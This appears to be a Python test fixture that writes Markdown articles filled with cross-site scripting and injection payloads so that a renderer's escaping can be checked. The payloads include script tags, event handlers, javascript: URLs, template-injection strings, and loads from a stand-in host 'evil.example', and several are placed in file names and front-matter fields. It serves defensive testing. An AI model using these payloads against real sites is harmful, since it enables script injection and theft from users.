"""Texts that try to run in the reader's browser. Each would show itself by a dialog, by
``window.pwned``, by a request to another host, or by an element that is not ours."""

from __future__ import annotations

import json
from pathlib import Path

DO = "window.pwned=1;alert(1)"
AWAY = "https://evil.example/x"

PAYLOADS = (
    f"<script>{DO}</script>",
    f"<SCRIPT SRC={AWAY}.js></SCRIPT>",
    f"<scr<script>ipt>{DO}</scr</script>ipt>",
    f"<img src=x onerror={DO}>",
    f'<img src="{AWAY}.png">',
    f"<img/src=x/onerror={DO}>",
    f"<IMG SRC=x OnErRoR={DO}>",
    f"<svg onload={DO}>",
    f"<svg><script>{DO}</script></svg>",
    f"<svg><animate onbegin={DO} attributeName=x dur=1s>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={DO}>#x'></svg>",
    f"<math><mtext></mtext><img src=x onerror={DO}></math>",
    f"<iframe src=javascript:{DO}></iframe>",
    f'<iframe srcdoc="<script>parent.{DO}</script>"></iframe>',
    f"<iframe src={AWAY}></iframe>",
    f"<object data=javascript:{DO}></object>",
    f"<embed src={AWAY}.swf>",
    f"<body onload={DO}>",
    f"<details open ontoggle={DO}>x</details>",
    f"<video src=x onerror={DO}></video>",
    f"<audio src=x onerror={DO}></audio>",
    f"<input autofocus onfocus={DO}>",
    f"<select autofocus onfocus={DO}></select>",
    f"<textarea autofocus onfocus={DO}></textarea>",
    f"<marquee onstart={DO}>x</marquee>",
    f"<form action=javascript:{DO}><button>x</button></form>",
    f"<button formaction=javascript:{DO}>x</button>",
    f"<link rel=stylesheet href={AWAY}.css>",
    f"<style>@import '{AWAY}.css';</style>",
    f"<div style=\"background:url('{AWAY}')\">x</div>",
    f"<base href={AWAY}/>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f'"><script>{DO}</script>',
    f"'><img src=x onerror={DO}>",
    f'" onmouseover="{DO}" x="',
    f"' autofocus onfocus='{DO}' x='",
    f"</p></span></article><script>{DO}</script>",
    f"</textarea><script>{DO}</script>",
    f"</title><script>{DO}</script>",
    f"</style><script>{DO}</script>",
    f"<!--><img src=x onerror={DO}>-->",
    f"<![CDATA[<script>{DO}</script>]]>",
    f"&lt;script&gt;{DO}&lt;/script&gt;",
    f"&#60;img src=x onerror={DO}&#62;",
    f"\\u003cimg src=x onerror={DO}\\u003e",
    f"%3Cscript%3E{DO}%3C/script%3E",
    f"[x](javascript:{DO})",
    f'![x](x" onerror="{DO})',
    f"[x](data:text/html,<script>{DO}</script>)",
    f"<javascript:{DO}>",
    f"<a href=javascript:{DO}>x</a>",
    f"<a href='java\tscript:{DO}'>x</a>",
    f'<a href=" javascript:{DO}">x</a>',
    f"<a href=vbscript:{DO}>x</a>",
    f"${{{DO}}}",
    "${(() => { window.pwned = 1; alert(1); })()}",
    "{{constructor.constructor('window.pwned=1;alert(1)')()}}",
    "{{#with (lookup this 'constructor')}}x{{/with}}",
    "{{{value}}}<b>x</b>",
    f"`;{DO};`",
    f"</script><script>{DO}</script>",
    f'__i18n__{{"__type__":"translation_metadata","key":"<img src=x onerror={DO}>"}}',
    f"<template><img src=x onerror={DO}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={DO}>">',
    f"＜script＞{DO}＜/script＞",
)

ADDRESSES = (
    f"javascript:{DO}",
    f"JaVaScRiPt:{DO}",
    f" javascript:{DO}",
    f"data:text/html,<script>{DO}</script>",
    f"vbscript:{DO}",
    f'https://example.org/" onmouseover="{DO}',
    f"https://example.org/'><script>{DO}</script>",
    "file:///etc/passwd",
)


def write_articles(folder: Path) -> list[Path]:
    """Articles that carry every payload in their text and notes, and some in each other field."""
    folder.mkdir(parents=True)
    paths = []
    for n, address in enumerate(ADDRESSES):
        title, author, publisher = (PAYLOADS[(n + k * 8) % len(PAYLOADS)] for k in (0, 1, 2))
        mine = PAYLOADS[n :: len(ADDRESSES)]
        body = "\n\n".join(
            f"## Heading {payload}\n\nThe canal number {k} carries water {payload} "
            f"to the fields.[^{k}]"
            for k, payload in enumerate(mine, start=1)
        )
        notes = "\n".join(
            f"[^{k}]: Jane Roe {payload}, *The Canal {payload}* (London: Press {payload}, 2001), "
            f"{k}. {address}"
            for k, payload in enumerate(mine, start=1)
        )
        head = "\n".join(
            f"{name}: {json.dumps(value)}"
            for name, value in {
                "title": title, "author": author, "publisher": publisher, "url": address,
                "date": "2025-01-01", "lang": "en",
            }.items()
        )  # fmt: skip
        path = folder / f"canal {n} <img src=x onerror=alert(1)> '\"&.md"
        path.write_text(f"---\n{head}\n---\n\n# {title}\n\n{body}\n\n{notes}\n", "utf-8")
        paths.append(path)
    return paths
